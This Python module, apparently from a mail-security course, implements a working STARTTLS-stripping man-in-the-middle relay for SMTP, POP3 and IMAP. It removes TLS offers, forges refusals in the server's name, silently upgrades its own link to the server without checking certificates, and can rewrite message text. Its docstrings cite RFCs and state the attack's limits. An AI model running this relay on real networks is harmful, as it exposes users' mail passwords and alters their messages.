"""STARTTLS stripping: the relay as an attacker between a mail program and its server.

A plaintext mail connection learns that TLS is possible from the server: SMTP's EHLO reply lists
``STARTTLS`` (RFC 3207 §4), POP3's CAPA lists ``STLS`` (RFC 2595 §4), IMAP's capability list
names ``STARTTLS`` (RFC 3501 §6.2.1). That offer travels in clear, before TLS, so whoever sits on
the wire can delete it: "A man-in-the-middle attack can be launched by deleting the '250
STARTTLS' response from the server" (RFC 3207 §6). A client that uses TLS *if available* then
sees none and sends its password in plaintext.

The attacker here does what such an attacker does:

- it rewrites the server's lines as they pass: the ``STARTTLS`` line of an EHLO reply goes (and
  the reply's last line is mended), ``STLS`` leaves CAPA, ``STARTTLS`` and ``LOGINDISABLED``
  leave IMAP's capability lists (the greeting's too) -- the rules are the pure
  :class:`Stripper` classes, tested without a network;
- when the client asks for TLS anyway, it answers in the server's name: ``454 4.7.0 TLS not
  available due to temporary reason`` (RFC 3207 §4), ``-ERR``, ``BAD``;
- with ``upgrade`` (the default) it starts TLS with the server itself, right after the greeting.
  A server that allows no login before TLS (the course's servers: the submission port asks for
  STARTTLS before AUTH, POP3 and IMAP refuse plaintext logins) then sees an encrypted connection
  and accepts the login, while the client's side of the wire stays plaintext. The attacker does
  not check the server's certificate: it is the one being fooled, not fooling.

What it cannot do: a client on an implicit-TLS port (RFC 8314 §3) speaks TLS from its first
byte, and the attacker can only pass that on or cut the connection. A client that *requires*
TLS stops when it is not offered, before it sends a password (RFC 2595 §2.2, RFC 8314 §5.2).
"""

from __future__ import annotations

import asyncio
import contextlib
import re
import ssl
from typing import TYPE_CHECKING

from mailsec.i18n import texts
from mailsec.limits import MAX_RELAY_REPLY_LINES as MAX_REPLY_LINES
from mailsec.transport.relay_recording import Direction, MailProtocol
from mailsec.transport.relay_tls import looks_like_tls

if TYPE_CHECKING:
    from mailsec.transport.relay import Link

__all__ = [
    "ATTACKER_EHLO",
    "ImapStripper",
    "Pop3Stripper",
    "SmtpStripper",
    "Stripper",
    "strip_session",
    "stripper_for",
]


ATTACKER_EHLO = b"EHLO [127.0.0.1]\r\n"
"""How the attacker greets the SMTP server before its own STARTTLS (an address literal,
RFC 5321 §4.1.3)."""

IMAP_TAG = b"R1"
"""The tag of the attacker's own IMAP STARTTLS."""

MESSAGES = texts(
    {
        "smtp_strip": "removed the STARTTLS line from the server's EHLO reply",
        "pop3_strip": "removed STLS from the server's CAPA list",
        "imap_strip": "removed {words} from the server's capability list",
        "imap_strip_both": "removed {first} and {second} from the server's capability list",
        "answered": "answered the client's {command} itself ({reply}); the server never saw it",
        "upgraded": (
            "hid the server's offer of {command} from the client and used it itself ({version}): "
            "the server sees an encrypted connection and allows a login, while the client's side "
            "stays plaintext"
        ),
        "altered": "changed the message in transit: {old!r} became {new!r}",
        "no_offer": "found no TLS offered by the server: nothing to upgrade, all stays plaintext",
        "upgrade_refused": "asked the server for {command} and was refused: all stays plaintext",
        "early": "saw the client speak before the server's greeting, and passed everything on",
        "implicit": (
            "saw a TLS handshake from the client's first byte (implicit TLS): with no offer to "
            "strip, it can only pass the encrypted bytes on, or cut the connection"
        ),
    }
)
"""Every sentence this module says (named placeholders, for translation)."""

_SECTIONS = {
    "smtp_strip": "RFC 3207 §6",
    "upgraded": "RFC 3207 §6",
    "altered": "RFC 3207 §6",
    "pop3_strip": "RFC 2595 §4",
    "imap_strip": "RFC 3501 §6.2.1",
    "implicit": "RFC 8314 §3",
}


def _verb(line: bytes) -> bytes:
    """The first word of a line, in capitals (a command's name)."""
    words = line.split(None, 1)
    return words[0].upper() if words else b""


class Stripper:
    """The rewriting rules of one protocol: lines in, lines out, no I/O.

    :meth:`server_line` takes each complete line the server sends and returns the lines the
    client gets instead (none while a reply is held back); :meth:`client_line` takes each
    complete line the client sends and returns an answer in the server's name when the attacker
    answers it itself (the line is then not passed on). What was done is collected in
    :attr:`notes` as (sentence, RFC section).
    """

    protocol: MailProtocol

    def __init__(self) -> None:
        self.notes: list[tuple[str, str]] = []

    def server_line(self, line: bytes) -> list[bytes]:
        return [line]

    def client_line(self, line: bytes) -> bytes | None:
        return None

    def altered(self, line: bytes) -> bytes:
        """The client's line as the attacker passes it on (unchanged unless it alters mail)."""
        return line

    def flush(self) -> list[bytes]:
        """Lines held back, to be sent as they are (the server stopped mid-reply)."""
        return []

    def take_notes(self) -> list[tuple[str, str]]:
        notes, self.notes = self.notes, []
        return notes

    def _answer(self, command: str, reply: bytes) -> bytes:
        text = reply.decode("ascii", "replace").strip()
        self.notes.append(
            (
                MESSAGES["answered"].format(command=command, reply=text),
                self.protocol.upgrade_section,
            )
        )
        return reply


class SmtpStripper(Stripper):
    """SMTP: the EHLO reply loses its STARTTLS line; STARTTLS is answered with 454."""

    protocol = MailProtocol.SMTP
    REFUSAL = b"454 4.7.0 TLS not available due to temporary reason\r\n"
    """RFC 3207 §4's reply when TLS cannot be started."""

    def __init__(self, alter: tuple[bytes, bytes] | None = None) -> None:
        super().__init__()
        self._reply: list[bytes] = []
        self._data = False
        self.alter = alter
        """(old, new): text the attacker replaces inside the message it passes on."""

    def altered(self, line: bytes) -> bytes:
        if not self._data or self.alter is None or self.alter[0] not in line:
            return line
        old, new = self.alter
        self.notes.append(
            (MESSAGES["altered"].format(old=old.decode(), new=new.decode()), _SECTIONS["altered"])
        )
        return line.replace(old, new)

    def server_line(self, line: bytes) -> list[bytes]:
        # A reply's lines but the last have a hyphen after the code (RFC 5321 §4.2.1).
        if line[3:4] == b"-" and len(self._reply) < MAX_REPLY_LINES:
            self._reply.append(line)
            return []
        reply, self._reply = [*self._reply, line], []
        if line[:3] == b"354":  # the client sends the message now, up to a lone "."
            self._data = True
        return self._without_starttls(reply)

    def _without_starttls(self, reply: list[bytes]) -> list[bytes]:
        if reply[0][:3] != b"250":
            return reply
        kept = [line for line in reply if _verb(line[4:]) != b"STARTTLS"]
        if len(kept) == len(reply) or not kept:
            return reply
        self.notes.append((MESSAGES["smtp_strip"], _SECTIONS["smtp_strip"]))
        last = kept[-1]
        kept[-1] = last[:3] + b" " + last[4:]  # the new last line ends the reply
        return kept

    def flush(self) -> list[bytes]:
        held, self._reply = self._reply, []
        return held

    def client_line(self, line: bytes) -> bytes | None:
        if self._data:
            if line.rstrip(b"\r\n") == b".":
                self._data = False
            return None
        if _verb(line) == b"STARTTLS":
            return self._answer("STARTTLS", self.REFUSAL)
        return None


class Pop3Stripper(Stripper):
    """POP3: CAPA loses STLS; STLS is answered with -ERR. Only before login: in the
    TRANSACTION state a message line reading ``STLS`` is mail, not a capability."""

    protocol = MailProtocol.POP3
    REFUSAL = b"-ERR [SYS/TEMP] TLS is not available\r\n"
    #: The commands of the AUTHORIZATION state (RFC 1939 §4, RFC 2449 CAPA, RFC 5034 AUTH).
    BEFORE_LOGIN = frozenset({b"CAPA", b"STLS", b"USER", b"PASS", b"APOP", b"AUTH", b"QUIT"})

    def __init__(self) -> None:
        super().__init__()
        self.active = True

    def server_line(self, line: bytes) -> list[bytes]:
        if self.active and line.strip().upper() == b"STLS":
            self.notes.append((MESSAGES["pop3_strip"], _SECTIONS["pop3_strip"]))
            return []
        return [line]

    def client_line(self, line: bytes) -> bytes | None:
        verb = _verb(line)
        if verb == b"STLS":
            return self._answer("STLS", self.REFUSAL)
        if verb not in self.BEFORE_LOGIN:
            self.active = False
        return None


class ImapStripper(Stripper):
    """IMAP: capability lists lose STARTTLS and LOGINDISABLED; STARTTLS is answered with BAD,
    as a server without TLS answers it. Only before login, for the same reason as POP3."""

    protocol = MailProtocol.IMAP
    #: The commands of the not-authenticated state and those of any state (RFC 3501 §6.1-6.2).
    BEFORE_LOGIN = frozenset(
        {b"CAPABILITY", b"STARTTLS", b"LOGIN", b"AUTHENTICATE", b"LOGOUT", b"NOOP", b"ID"}
    )
    _OFFER = re.compile(rb"(?i) (STARTTLS|LOGINDISABLED)(?=[ \]\r\n]|\Z)")

    def __init__(self) -> None:
        super().__init__()
        self.active = True

    def server_line(self, line: bytes) -> list[bytes]:
        upper = line.upper()
        if self.active and (upper.startswith(b"* CAPABILITY ") or b"[CAPABILITY " in upper):
            words = sorted({m.group(1).upper().decode() for m in self._OFFER.finditer(line)})
            if words:
                if len(words) == 2:
                    said = MESSAGES["imap_strip_both"].format(first=words[0], second=words[1])
                else:
                    said = MESSAGES["imap_strip"].format(words=" and ".join(words))
                self.notes.append((said, _SECTIONS["imap_strip"]))
                return [self._OFFER.sub(b"", line)]
        return [line]

    def client_line(self, line: bytes) -> bytes | None:
        words = line.split()
        command = words[1].upper() if len(words) >= 2 else b""
        if command == b"STARTTLS":
            return self._answer("STARTTLS", words[0] + b" BAD STARTTLS is not available\r\n")
        if command not in self.BEFORE_LOGIN:
            self.active = False
        return None


def stripper_for(protocol: MailProtocol) -> Stripper:
    """A fresh set of rules for one connection."""
    return {
        MailProtocol.SMTP: SmtpStripper,
        MailProtocol.POP3: Pop3Stripper,
        MailProtocol.IMAP: ImapStripper,
    }[protocol]()


def _attacker_context() -> ssl.SSLContext:
    """The attacker's TLS towards the server: it checks no certificate (it wants the
    connection, not the truth)."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


# -- the attacker's session --------------------------------------------------------------------


def _note(link: Link, stripper: Stripper) -> None:
    for text, section in stripper.take_notes():
        link.recorder.note(text, section, attack=True)


async def strip_session(
    link: Link, *, upgrade: bool, alter: tuple[bytes, bytes] | None = None
) -> None:
    """Run one connection as the attacker (see the module's docstring); ``alter`` is a
    replacement it makes inside the SMTP messages it passes on."""
    stripper = SmtpStripper(alter) if alter is not None else stripper_for(link.protocol)
    first = await _first_words(link)
    if first is None:  # the client spoke first (TLS from its first byte, or out of turn)
        await link.pipe()
        return
    greeting = await _rest_of_greeting(link, first)
    if upgrade and greeting and greeting[-1]:
        await _upgrade(link, greeting)
    for line in greeting:
        for out in stripper.server_line(line):
            await link.to_client(out)
    _note(link, stripper)
    await link.both(_from_client(link, stripper), _from_server(link, stripper))


async def _first_words(link: Link) -> bytes | None:
    """The server's first line, or ``None`` when the client spoke first (its bytes have been
    passed on, and whatever the server said too)."""
    client = asyncio.ensure_future(link.client_reader.read(4096))
    server = asyncio.ensure_future(link.read_line(link.server_reader))
    try:
        done, _ = await asyncio.wait(
            {client, server}, timeout=link.idle_timeout, return_when=asyncio.FIRST_COMPLETED
        )
    except BaseException:
        client.cancel()
        server.cancel()
        raise
    if not done:
        client.cancel()
        server.cancel()
        link.timed_out()
    if client.done():
        data = client.result()
        if server.done():
            said = server.result()
        else:
            server.cancel()
            with contextlib.suppress(asyncio.CancelledError):
                await server
            said = b""
        if data:
            implicit = looks_like_tls(data)
            link.recorder.note(
                MESSAGES["implicit" if implicit else "early"],
                _SECTIONS["implicit"] if implicit else None,
                attack=True,
            )
        link.recorder.add(Direction.TO_SERVER, data)
        await link.to_server(data)
        if said:
            await link.to_client(said)
        return None
    client.cancel()
    with contextlib.suppress(asyncio.CancelledError):
        await client
    return server.result()


async def _rest_of_greeting(link: Link, first: bytes) -> list[bytes]:
    """The greeting's lines: SMTP's may go on (``220-``); POP3's and IMAP's are one line."""
    lines = [first]
    if link.protocol is MailProtocol.SMTP:
        while lines[-1][3:4] == b"-" and len(lines) < MAX_REPLY_LINES:
            line = await link.read_line(link.server_reader)
            if not line:
                break
            lines.append(line)
    return lines


async def _reply(link: Link) -> list[bytes]:
    """One reply to the attacker's own command: an SMTP reply (all its lines), a POP3 line,
    or IMAP lines up to the attacker's tagged one."""
    lines: list[bytes] = []
    while len(lines) < MAX_REPLY_LINES:
        line = await link.read_line(link.server_reader)
        if not line:
            raise ConnectionResetError("the server closed the connection")
        lines.append(line)
        if link.protocol is MailProtocol.SMTP and line[3:4] != b"-":
            break
        if link.protocol is MailProtocol.POP3:
            break
        if link.protocol is MailProtocol.IMAP and line.startswith(IMAP_TAG + b" "):
            break
    return lines


async def _upgrade(link: Link, greeting: list[bytes]) -> None:
    """Start TLS with the server, as a client would, before the client says anything."""
    protocol = link.protocol
    if protocol is MailProtocol.SMTP:
        await link.to_server(ATTACKER_EHLO)
        if not any(_verb(line[4:]) == b"STARTTLS" for line in await _reply(link)):
            link.recorder.note(MESSAGES["no_offer"], protocol.upgrade_section, attack=True)
            return
        await link.to_server(b"STARTTLS\r\n")
        accepted = (await _reply(link))[-1][:3] == b"220"
    elif protocol is MailProtocol.POP3:
        await link.to_server(b"STLS\r\n")
        accepted = (await _reply(link))[-1].startswith(b"+OK")
    else:
        upper = greeting[0].upper()  # without a capability list in it, STARTTLS is tried
        if b"[CAPABILITY " in upper and b" STARTTLS" not in upper:
            link.recorder.note(MESSAGES["no_offer"], protocol.upgrade_section, attack=True)
            return
        await link.to_server(IMAP_TAG + b" STARTTLS\r\n")
        accepted = _verb((await _reply(link))[-1][len(IMAP_TAG) :]) == b"OK"
    if not accepted:
        link.recorder.note(
            MESSAGES["upgrade_refused"].format(command=protocol.upgrade_command),
            protocol.upgrade_section,
            attack=True,
        )
        return
    version = await link.start_server_tls(_attacker_context())
    link.recorder.note(
        MESSAGES["upgraded"].format(command=protocol.upgrade_command, version=version),
        _SECTIONS["upgraded"],
        attack=True,
    )


async def _from_client(link: Link, stripper: Stripper) -> None:
    """The client's lines: passed on, or answered by the attacker."""
    whole = True  # the piece before ended a line: this one starts a line
    while True:
        line = await link.read_line(link.client_reader)
        if not line:
            link.finish(link.server_writer)
            return
        link.recorder.add(Direction.TO_SERVER, line)
        answer = stripper.client_line(line) if whole and line.endswith(b"\n") else None
        if answer is None and whole:
            line = stripper.altered(line)
        whole = line.endswith(b"\n")
        _note(link, stripper)
        if answer is not None:
            await link.to_client(answer)
        else:
            await link.to_server(line)


async def _from_server(link: Link, stripper: Stripper) -> None:
    """The server's lines, rewritten."""
    whole = True
    while True:
        line = await link.read_line(link.server_reader)
        if not line:
            for held in stripper.flush():
                await link.to_client(held)
            link.finish(link.client_writer)
            return
        if whole and line.endswith(b"\n"):
            out = stripper.server_line(line)
        else:  # a piece of an overlong line: passed on as it is
            out = [*stripper.flush(), line]
        whole = line.endswith(b"\n")
        _note(link, stripper)
        for piece in out:
            await link.to_client(piece)
